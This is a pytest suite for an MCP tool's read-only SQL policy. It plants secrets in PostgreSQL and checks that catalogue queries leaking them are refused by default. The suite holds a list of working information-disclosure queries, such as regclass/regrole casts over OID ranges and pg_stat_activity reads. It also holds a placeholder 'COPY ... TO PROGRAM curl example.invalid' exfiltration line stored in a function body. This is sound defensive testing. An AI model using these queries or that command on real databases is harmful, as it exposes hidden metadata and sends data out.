"""The catalogue rule against the real PostgreSQL, through the whole tool path (docs/tools/read_only_sql.md,
"The catalogue").

The superuser plants a secret in each thing the issue found readable through pg_catalog: a comment on
a table the reader cannot read, a function's source (a COPY ... TO PROGRAM command line), a view's
definition, a row-level security policy, a role's name, a tablespace's host path, the server's address,
and another client's query text in pg_stat_activity. Each query is refused by default and, with
MCP_SQL_ALLOW_CATALOGUE=true, returns the secret: the same call shows the rule is what keeps it out.
The information_schema views the rule reads as filtered are checked against PostgreSQL itself.
"""

from __future__ import annotations

import json
import logging
import os
import shutil
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psycopg
import pytest
import trio

from mcp_suite.demo.cluster import Cluster
from mcp_suite.tools.sql.engine.policy.catalogue import (
    READABLE_INFORMATION_SCHEMA,
    REFUSED_INFORMATION_SCHEMA,
    function_reason,
)
from tests.support.harness import open_session
from tests.support.pg import sql_settings
from tests.support.sql_calls import session_sql_call

pytestmark = pytest.mark.pg

HIDDEN = "mcp_catalogue_hidden"  # a schema the reader has no USAGE on
ROLE = "mcp_catalogue_planted_role"
SPACE = "mcp_catalogue_space"
COMMENT_SECRET = "planted-comment-secret-7f3a"
PROGRAM_SECRET = "planted-program-secret-91c2"
VIEW_SECRET = "planted-view-secret-5d0e"
POLICY_SECRET = "planted-policy-secret-c4b8"
ACTIVITY_SECRET = "planted-activity-secret-2e6f"


@dataclass(frozen=True, slots=True)
class Leak:
    why: str
    sql: str
    secret: str  # what the reply holds when the catalogue is allowed ("{port}", "{space}": filled in)


LEAKS = (
    Leak(
        "a comment on a table the reader cannot read",
        "SELECT obj_description(c.oid, 'pg_class') AS comment FROM pg_catalog.pg_class AS c "
        "WHERE c.relname = 'vault'",
        COMMENT_SECRET,
    ),
    Leak(
        "the same comment through pg_description in a CTE and a lateral subquery",
        "WITH d AS (SELECT * FROM pg_description) SELECT x.description FROM (SELECT 1) AS one "
        "CROSS JOIN LATERAL (SELECT description FROM d WHERE description LIKE 'planted%') AS x",
        COMMENT_SECRET,
    ),
    Leak(
        "a function's source with a COPY ... TO PROGRAM command line",
        'SELECT pg_get_functiondef(p.oid) AS source FROM "pg_catalog"."pg_proc" AS p '
        "WHERE p.proname = 'exfiltrate'",
        PROGRAM_SECRET,
    ),
    Leak(
        "a function's source in pg_proc",
        "SELECT prosrc FROM pg_proc WHERE proname = 'exfiltrate'",
        PROGRAM_SECRET,
    ),
    Leak(
        "a view's definition",
        "SELECT definition FROM pg_views WHERE viewname = 'window_on_vault'",
        VIEW_SECRET,
    ),
    Leak(
        "a view's definition through pg_get_viewdef",
        "SELECT pg_get_viewdef(c.oid) AS definition FROM pg_class AS c WHERE c.relname = 'window_on_vault'",
        VIEW_SECRET,
    ),
    Leak(
        "hidden tables' names through a regclass cast of identifiers, no catalogue relation named",
        "SELECT o::regclass::text AS name FROM generate_series(16384, 100000) AS o "
        "WHERE o::regclass::text <> o::text AND o::regclass::text LIKE 'mcp%'",
        f"{HIDDEN}.vault",
    ),
    Leak("row-level security policies", "SELECT qual FROM pg_policies", POLICY_SECRET),
    Leak("role names", "SELECT rolname FROM pg_roles ORDER BY 1", ROLE),
    Leak(
        "hidden tables' names through pg_typeof's regtype and an integer in the same array",
        "SELECT (ARRAY[pg_typeof(1), o])[2]::text AS name FROM generate_series(16384, 100000) AS o "
        "WHERE (ARRAY[pg_typeof(1), o])[2]::text LIKE 'mcp%'",
        f"{HIDDEN}.vault",
    ),
    Leak(
        "role names through a regrole cast of identifiers",
        "SELECT r::regrole::text AS name FROM generate_series(10, 100000) AS r "
        "WHERE r::regrole::text <> r::text",
        ROLE,
    ),
    Leak(
        "a tablespace's host path",
        "SELECT pg_tablespace_location(oid) AS path FROM pg_tablespace",
        "{space}",
    ),
    Leak(
        "the server's address and port",
        "SELECT inet_server_addr()::text AS a, inet_server_port() AS p",
        "{port}",
    ),
    Leak("the server's port as a setting", "SELECT current_setting('port') AS p", "{port}"),
    Leak(
        "another client's query with its literal in pg_stat_activity",
        "SELECT query FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
        ACTIVITY_SECRET,
    ),
    Leak(
        "another client's query through pg_stat_get_activity",
        "SELECT query FROM pg_stat_get_activity(NULL) AS a WHERE pid <> pg_backend_pid()",
        ACTIVITY_SECRET,
    ),
    Leak(
        "a hidden function's name in information_schema.routines",
        "SELECT routine_schema, routine_name FROM information_schema.routines "
        f"WHERE routine_schema = '{HIDDEN}'",
        "exfiltrate",
    ),
)


@pytest.fixture(scope="module")
def planted(demo_cluster: Cluster) -> Iterator[dict[str, str]]:
    """The secrets, planted by the superuser; an idle second client of the reader's role whose last
    query holds a literal. Yields the values a leak is filled in with."""
    space = Path(tempfile.mkdtemp(prefix="mcp-catalogue-space-"))
    owner = demo_cluster.data_dir.stat()
    if (owner.st_uid, owner.st_gid) != (os.geteuid(), os.getegid()):
        os.chown(space, owner.st_uid, owner.st_gid)  # the server's own account must own it
    with psycopg.connect(demo_cluster.admin_dsn, autocommit=True) as admin:
        _drop(admin)
        for statement in (
            f"CREATE SCHEMA {HIDDEN}",
            f"CREATE TABLE {HIDDEN}.vault (secret text)",
            f"COMMENT ON TABLE {HIDDEN}.vault IS '{COMMENT_SECRET}'",
            # A command line kept in a function's source; the body only returns it (a body that ran
            # it as dynamic SQL, executable by the reader, is refused by the role audit:
            # tests/pg/test_sql_audit_bodies.py).
            f"CREATE FUNCTION {HIDDEN}.exfiltrate() RETURNS text LANGUAGE sql AS $$ SELECT "
            f"'COPY (SELECT 1) TO PROGRAM ''curl https://example.invalid/{PROGRAM_SECRET}''' $$",
            # As a careless DBA: the demo's default privileges keep new functions from PUBLIC.
            f"GRANT EXECUTE ON FUNCTION {HIDDEN}.exfiltrate() TO PUBLIC",
            f"CREATE VIEW {HIDDEN}.window_on_vault AS SELECT secret FROM {HIDDEN}.vault "
            f"WHERE secret <> '{VIEW_SECRET}'",
            f"ALTER TABLE {HIDDEN}.vault ENABLE ROW LEVEL SECURITY",
            f"CREATE POLICY planted ON {HIDDEN}.vault USING (secret <> '{POLICY_SECRET}')",
            f"CREATE ROLE {ROLE} NOLOGIN",
            f"CREATE TABLESPACE {SPACE} LOCATION '{space}'",
        ):
            admin.execute(statement.encode())
        other = psycopg.connect(demo_cluster.reader_dsn, autocommit=True)
        try:
            other.execute(f"SELECT '{ACTIVITY_SECRET}' AS other_client".encode())
            yield {"port": str(demo_cluster.port), "space": str(space)}
        finally:
            other.close()
            _drop(admin)
            shutil.rmtree(space, ignore_errors=True)


def _drop(admin: psycopg.Connection[Any]) -> None:
    admin.execute(f"DROP SCHEMA IF EXISTS {HIDDEN} CASCADE".encode())
    admin.execute(f"DROP ROLE IF EXISTS {ROLE}".encode())
    admin.execute(f"DROP TABLESPACE IF EXISTS {SPACE}".encode())


@pytest.mark.parametrize("leak", LEAKS, ids=[leak.why for leak in LEAKS])
async def test_a_catalogue_read_is_refused_and_points_to_sql_schema(
    demo_cluster: Cluster, planted: dict[str, str], leak: Leak
) -> None:
    result = await session_sql_call(demo_cluster, leak.sql)
    assert result["isError"] is True
    problem = json.loads(result["content"][0]["text"])
    assert problem["type"] == "urn:mcp-suite:problem:query-violation"
    assert problem["metadata"]["rule"] == "catalogue"
    assert "sql_schema" in problem["detail"]
    assert leak.secret.format(**planted) not in json.dumps(result)


@pytest.mark.parametrize("leak", LEAKS, ids=[leak.why for leak in LEAKS])
async def test_the_setting_allows_the_catalogue_and_the_same_query_then_leaks(
    demo_cluster: Cluster, planted: dict[str, str], leak: Leak
) -> None:
    result = await session_sql_call(demo_cluster, leak.sql, sql_allow_catalogue=True)
    assert result.get("isError") is not True, result
    assert leak.secret.format(**planted) in json.dumps(result["structuredContent"]["rows"])


async def test_the_setting_is_logged_as_a_warning_at_start_up(
    demo_cluster: Cluster, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="mcp_suite.tools.sql"):
        await session_sql_call(demo_cluster, "SELECT 1 AS one", sql_allow_catalogue=True)
    assert any(
        "MCP_SQL_ALLOW_CATALOGUE" in r.getMessage() for r in caplog.records if r.levelno == logging.WARNING
    )
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="mcp_suite.tools.sql"):
        await session_sql_call(demo_cluster, "SELECT 1 AS one")
    assert not any("MCP_SQL_ALLOW_CATALOGUE" in r.getMessage() for r in caplog.records)


async def test_filtered_catalogue_reads_stay_allowed(demo_cluster: Cluster, planted: dict[str, str]) -> None:
    result = await session_sql_call(
        demo_cluster,
        "SELECT table_schema, table_name FROM information_schema.tables "
        "WHERE table_schema NOT IN ('pg_catalog', 'information_schema') ORDER BY 1, 2",
    )
    assert result.get("isError") is not True, result
    rows = result["structuredContent"]["rows"]
    assert ["docs", "pages"] in rows
    assert [row for row in rows if HIDDEN in row] == []
    session = await session_sql_call(
        demo_cluster,
        "SELECT current_user AS u, current_database() AS d, pg_backend_pid() > 0 AS p, "
        "current_setting('statement_timeout') IS NOT NULL AS s, version() LIKE 'PostgreSQL%' AS v",
    )
    assert session["structuredContent"]["rows"] == [["mcp_reader", "mcp_demo", True, True, True]]


def test_every_function_that_returns_an_identifier_type_is_refused(demo_cluster: Cluster) -> None:
    """A function whose result (or an OUT column) is a reg* type or aclitem is a source of names: with
    an integer beside it (CASE, ARRAY, COALESCE), PostgreSQL casts the integer to that type too. Every
    such function the reader may run is refused by the catalogue rule."""
    with psycopg.connect(demo_cluster.admin_dsn, autocommit=True) as admin:
        rows = admin.execute(
            "SELECT DISTINCT p.proname FROM pg_catalog.pg_proc AS p WHERE "
            "has_function_privilege('mcp_reader', p.oid, 'EXECUTE') AND EXISTS (SELECT 1 FROM "
            "unnest(p.prorettype || coalesce(p.proallargtypes, '{}'::oid[])) AS t(oid) "
            "JOIN pg_catalog.pg_type AS y ON y.oid = t.oid "
            "WHERE y.typname ~ '^_?(reg[a-z]+|aclitem)$' AND (t.oid = p.prorettype OR "
            "p.proargmodes IS NOT NULL)) ORDER BY 1"
        ).fetchall()
    names = [str(name) for (name,) in rows]
    assert "pg_typeof" in names
    assert [name for name in names if function_reason(name) is None] == []


def test_the_information_schema_views_read_as_filtered_show_no_hidden_object(
    demo_cluster: Cluster, planted: dict[str, str]
) -> None:
    """Every information_schema view is reviewed; the readable ones show the reader nothing of the
    hidden schema, and each refused one does (so the refusal is needed)."""
    with psycopg.connect(demo_cluster.admin_dsn, autocommit=True) as admin:
        admin.execute(f"CREATE TYPE {HIDDEN}.shape AS (side integer)".encode())
        admin.execute(f"CREATE DOMAIN {HIDDEN}.positive AS integer CHECK (VALUE > 0)".encode())
        admin.execute(f"CREATE COLLATION {HIDDEN}.plain (locale = 'C')".encode())
        admin.execute(
            f"CREATE FUNCTION {HIDDEN}.twice(a integer[]) RETURNS integer LANGUAGE sql AS 'SELECT 2'".encode()
        )
        # As a careless DBA: the demo's default privileges keep new functions from PUBLIC.
        admin.execute(f"GRANT EXECUTE ON FUNCTION {HIDDEN}.twice(integer[]) TO PUBLIC".encode())
        views = [
            str(name)
            for (name,) in admin.execute(
                "SELECT table_name FROM information_schema.tables "
                "WHERE table_schema = 'information_schema' AND table_name NOT LIKE '\\_pg\\_%'"
            ).fetchall()
        ]
    assert sorted(set(views) - READABLE_INFORMATION_SCHEMA - REFUSED_INFORMATION_SCHEMA) == []
    seen: dict[str, bool] = {}
    with psycopg.connect(demo_cluster.reader_dsn, autocommit=True) as reader:
        for view in views:
            try:
                rows = reader.execute(f'SELECT * FROM information_schema."{view}"'.encode()).fetchall()
            except psycopg.errors.InsufficientPrivilege:
                rows = []
            seen[view] = any(HIDDEN in str(row) for row in rows)
    assert [view for view in views if view in READABLE_INFORMATION_SCHEMA and seen[view]] == []
    assert [view for view in sorted(REFUSED_INFORMATION_SCHEMA) if not seen[view]] == []


async def test_explain_sql_follows_the_same_rule_and_sql_schema_is_not_affected(
    demo_cluster: Cluster, planted: dict[str, str]
) -> None:
    """explain_sql vets its query with read_only_sql's policy (a catalogue read is refused there too);
    sql_schema reads the catalogue through the executor's own queries and still answers."""
    settings = sql_settings(demo_cluster.reader_dsn)
    with trio.fail_after(30):
        async with open_session(settings=settings, builtins=True, test_tools=False) as h:
            await h.initialize()
            refused = await h.response(
                await h.call("explain_sql", {"sql": "SELECT description FROM pg_description"})
            )
            honest = await h.response(
                await h.call("explain_sql", {"sql": "SELECT slug FROM docs.pages WHERE words > 300"})
            )
            schema = await h.response(await h.call("sql_schema", {}))
    problem = json.loads(refused["result"]["content"][0]["text"])
    assert problem["metadata"]["rule"] == "catalogue"
    assert honest["result"].get("isError") is not True, honest
    assert schema["result"].get("isError") is not True, schema
    listing = json.dumps(schema["result"]["structuredContent"])
    assert "pages" in listing
    assert HIDDEN not in listing
